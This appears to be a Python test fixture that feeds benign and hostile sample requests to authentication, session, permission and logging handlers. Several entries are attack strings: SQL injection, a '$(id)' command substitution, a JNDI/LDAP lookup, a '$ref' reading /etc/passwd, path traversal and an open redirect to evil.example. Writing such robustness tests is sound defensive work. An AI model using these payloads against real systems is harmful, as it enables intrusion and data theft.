"""Requests about who somebody is and may do."""

from base64 import urlsafe_b64encode

from tests.honest.samples.sample import TEXTS

TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEiLCJhdWQiOiJzaG9wIn0.x"
SESSION = urlsafe_b64encode(b'{"user": "ada"}').decode().rstrip("=")
REQUESTS = {
    "protected": [
        {"headers": {"authorization": f"Bearer {TOKEN}"}},
        {"headers": {}},
        {"headers": {"authorization": "Bearer ' OR 1=1"}},
    ],
    "make_token": [{"user": "ada", "scope": "orders:read"}, {"user": TEXTS["json"]}],
    "asymmetric": [{"user": "ada"}, {"user": "-----BEGIN x"}],
    "header_of_token": [{"token": TOKEN}, {"token": "a.b"}],
    "password": [{"password": "tea", "hash": "00"}, {"password": TEXTS["shell"]}],
    "derived_key": [{"secret": "s", "text": "hello"}, {"secret": "$(id)", "text": TEXTS["unicode"]}],
    "session_cookie": [
        {"cookies": [f"session={SESSION}.0000000000", "theme=dark"]},
        {},
        {"cookies": ["a=b"]},
    ],
    "permitted": [
        {"roles": ["editor"], "action": "orders:write"},
        {"roles": ["x"], "action": "*"},
        {"roles": ["admin", "viewer"], "action": "__class__"},
    ],
    "policy": [
        {
            "authorizationToken": "Bearer ok",
            "methodArn": "arn:aws:execute-api:eu-central-1:123456789012:a1/prod/GET/orders/7",
        },
        {
            "authorizationToken": "x",
            "methodArn": "arn:aws:execute-api:eu-central-1:123456789012:a1/prod/POST/a/../b",
        },
    ],
    "schema_checked": [
        {"body": {"email": "a@b", "age": 3}},
        {"body": {"email": "x", "$ref": "file:///etc/passwd"}},
    ],
    "marshalled": [
        {"person": {"name": "Ada", "email": "a@example.org", "born": "1815-12-10"}},
        {"person": {"name": "x", "email": "'; --", "y": 1}},
    ],
    "sign_up": [
        {
            "userName": "ada",
            "region": "eu-central-1",
            "request": {"userAttributes": {"email": "a@example.org"}},
            "response": {},
        },
        {
            "userName": "o'brien",
            "region": "eu-central-1",
            "request": {"userAttributes": {"email": "x@example.com"}},
            "response": {},
        },
    ],
    "migrate": [
        {"userName": "ada", "request": {"password": "tea"}},
        {"userName": "eve", "request": {"password": "' or ''='"}},
    ],
    "one_time_code": [{"secret": "JBSWY3DPEHPK3PXP", "time": "1795600800"}],
    "identifiers": [{"name": "a/b", "id": "6ba7b810-9dad-11d1-80b4-00c04fd430c8"}],
    "language": [
        {"headers": {"Accept-Language": "de-AT,de;q=0.9,en"}, "name": "Ada", "n": 2},
        {"headers": {}, "name": "%(n)s %s", "n": 1},
    ],
    "money": [{"n": 1234567}],
    "feature": [{"user": {"country": "DE", "plan": "pro"}}, {"user": {"country": "in", "plan": "rules"}}],
    "rollout": [
        {"feature": "beta", "user": "ada", "percent": "50"},
        {"feature": "x:y", "user": "", "percent": 0},
    ],
    "logged": [
        {"user": "ada", "headers": {"User-Agent": "Mozilla/5.0"}},
        {"user": TEXTS["lines"], "headers": {"User-Agent": "${jndi:ldap://x/y}"}},
    ],
    "magic_link": [{"email": "ada+1@example.org"}, {"email": "x&next=//evil.example", "next": "/basket?x=1"}],
    "tampered": [{"token": "gAAAAA"}, {"token": "import os"}],
}
